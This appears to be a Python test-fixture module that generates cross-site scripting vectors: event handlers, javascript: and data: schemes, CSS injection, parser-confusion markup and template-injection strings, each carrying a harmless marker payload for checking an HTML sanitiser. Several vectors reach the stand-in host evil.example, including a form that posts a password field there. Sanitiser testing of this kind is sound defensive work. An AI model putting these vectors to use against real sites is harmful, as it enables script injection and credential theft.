"""Words that try to run: tags, events, addresses, styles, parser mix-ups. `RUN` is what they would do if one of them did."""

RUN = "window.__ran=1"
_TAGS = (
    "script",
    "svg onload",
    "body onload",
    "img src=x onerror",
    "video src=x onerror",
    "details open ontoggle",
    "marquee onstart",
)
_EVENTS = (
    "onclick", "onmouseover", "onfocus autofocus tabindex=1 data-x", "onanimationstart", "onpointerenter", "onbeforeinput", "onpaste",
    "onwheel", "ontransitionend", "onscrollend", "onbeforetoggle", "ONCLICK", "on\tclick", "onclick\x0c",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;avascript:", "\x01javascript:",
    "javascript&colon;", "vbscript:", "data:text/html,<script>", "data:text/html;base64,", "data:image/svg+xml,<svg onload=>", "blob:", "file:///",
    "//evil.example/", "\\\\evil.example\\", "view-source:javascript:",
)  # fmt: skip
_STYLES = (
    "background:url(javascript:{})", "background:url(//evil.example/x)", "behavior:url(x.htc)", "width:expression({})", "-moz-binding:url(x)",
    "position:fixed;top:0;left:0;width:100%;height:100%", "display:none", "font-size:0", "b\\61 ckground:url(//evil.example)", "@import '//evil.example'",
    "color:red;/*\n*/background:u\\rl(//evil.example)", "content:'x'", "animation:x 1s", "clip-path:url(#x)",
)  # fmt: skip
_MIXED = (
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    "<svg><style><img src=x onerror={}></style></svg>",
    "<template><img src=x onerror={}></template>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={} src=1>">',
    "<select><iframe srcdoc='<script>{}</script>'></select>",
    "<table><td background='javascript:{}'>茶</table>",
    "<a href='x' ping='//evil.example'>茶</a>",
    "<xmp><img src=x onerror={}></xmp>",
    "<plaintext><script>{}</script>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<img src='asset:{}' onerror={}>",
    '<img src="asset:x"\nonerror\n=\n"{}">',
    "<img/src=x/onerror={}>",
    "<img src=x:x onerror\x0b={}>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</script>",
    '<a href="javascript:{}" style="display:block;font-size:99px">领奖</a>',
    "<input autofocus onfocus={}>",
    '<button formaction="javascript:{}">登录</button>',
    "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:{} type=image>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<svg><a xlink:href='javascript:{}'><text y=20>茶</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></iframe></foreignObject></svg>",
    "<iframe src='javascript:{}'></iframe>",
    "<audio src onerror={}>",
    "<video><source onerror={}></video>",
    "<p id='constructor'>茶</p><p name='__proto__'>茶</p>",
    "<p class='btn btn--primary' data-behaviour='autosubmit'>茶</p>",
    "<p hx-get='//evil.example' hx-trigger='load'>茶</p>",
    "<p x-data x-init='{}'>茶</p>",
    "<div contenteditable onblur={}>茶</div>",
    "<dialog open onclose={}>茶</dialog>",
    "<form action='//evil.example'><input name=password></form>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "\u202e<script>{}</script>",
)


def vectors() -> list[str]:
    """Every attempt once, each around the harmless word 茶."""
    tags = [f"<{tag}={RUN}>茶" if " " in tag else f"<{tag}>{RUN}</{tag}>茶" for tag in _TAGS]
    events = [f'<p {event}="{RUN}">茶</p>' for event in _EVENTS]
    links = [f'<a href="{scheme}{RUN}">茶</a>' for scheme in _SCHEMES]
    pictures = [f'<img src="{scheme}{RUN}" alt="茶">' for scheme in _SCHEMES]
    styles = [f'<p style="{style.replace("{}", RUN)}">茶</p>' for style in _STYLES]
    return [
        *tags,
        *events,
        *links,
        *pictures,
        *styles,
        *(m.replace("{{", "{").replace("}}", "}").replace("{}", RUN) for m in _MIXED),
    ]
